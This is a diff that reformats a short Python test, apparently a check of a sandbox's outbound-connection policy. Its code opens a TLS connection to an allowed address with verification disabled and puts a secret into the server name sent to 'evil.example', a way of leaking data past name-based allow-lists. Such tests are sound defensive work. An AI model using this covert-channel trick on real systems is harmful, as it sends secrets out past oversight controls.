@@ -1,7 +1,8 @@
 # class: network
 # rule: outbound_connectivity
 # policy: shared.yaml
-# success: asyncio's TLS, which has its greeting made in memory, names another server at an allowed name's address
+# success: asyncio's TLS, which has its greeting made in memory, names another server at an allowed
+#   name's address
 # proof: word
 # needs: resolver
 import asyncio
@@ -16,7 +17,8 @@ async def go(place):
     context.verify_mode = ssl.CERT_NONE
     try:
         await asyncio.wait_for(
-            asyncio.open_connection(*place, ssl=context, server_hostname=SECRET + ".evil.example"), 1
+            asyncio.open_connection(*place, ssl=context, server_hostname=SECRET + ".evil.example"),
+            1,
         )
     except asyncio.TimeoutError:
         pass
